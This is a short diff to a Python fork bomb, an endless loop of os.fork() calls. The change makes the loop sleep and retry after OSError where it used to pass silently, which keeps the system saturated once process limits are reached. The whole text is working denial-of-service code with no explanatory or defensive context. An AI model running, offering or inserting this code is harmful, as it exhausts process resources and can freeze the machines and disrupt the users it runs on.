@@ -1,7 +1,8 @@
 import os
+import time
 
 while True:
     try:
         os.fork()
     except OSError:
-        pass
+        time.sleep(0.1)
